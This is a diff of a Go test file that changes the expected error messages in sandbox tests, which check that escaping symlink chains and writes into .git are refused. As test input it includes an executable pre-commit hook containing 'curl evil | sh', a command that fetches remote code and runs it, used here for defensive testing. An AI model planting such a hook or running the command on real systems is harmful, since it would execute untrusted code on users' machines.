@@ -151,7 +151,7 @@ func refused(t *testing.T, s sandbox, data []byte, want error, msg string) {
 func TestApplyLinkChainEscape(t *testing.T) {
 	s := newSandbox(t)
 	data := tape(t, cassette.Header{}, mkdir("d"), link("d/up", ".."), link("esc", "d/up/.."), create("esc/outside/pwned.txt", "pwned\n"))
-	refused(t, s, data, workspace.ErrUnsafe, `"esc" links to "d/up/..", outside the working directory`)
+	refused(t, s, data, workspace.ErrUnsafe, `"esc" links to "d/up/..", outside the working directory (line 7), "esc/outside/pwned.txt" passes through the symbolic link esc (line 8)`)
 	// Without the write, the escaping link alone is refused all the same.
 	data = tape(t, cassette.Header{}, mkdir("d"), link("d/up", ".."), link("esc", "d/up/.."))
 	refused(t, s, data, workspace.ErrUnsafe, `"esc" links to "d/up/..", outside`)
@@ -190,7 +190,7 @@ func TestApplyNeverTouchesGit(t *testing.T) {
 	s := newSandbox(t)
 	hook := create(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
 	hook.Mode = "0755"
-	refused(t, s, tape(t, cassette.Header{}, hook), workspace.ErrUnsafe, `".git/hooks/pre-commit" is in .git`)
+	refused(t, s, tape(t, cassette.Header{}, hook), workspace.ErrUnsafe, `evil.cassette:5: unsafe path: ".git/hooks/pre-commit" is in .git`)
 	refused(t, s, tape(t, cassette.Header{}, create(".GIT/config", "x")), workspace.ErrUnsafe, "is in .git")
 	refused(t, s, tape(t, cassette.Header{}, create("sub/.git/config", "x")), workspace.ErrUnsafe, "is in .git")
 	refused(t, s, tape(t, cassette.Header{}, link("hooks", ".git/hooks")), workspace.ErrUnsafe, `"hooks" links to ".git/hooks", into .git`)
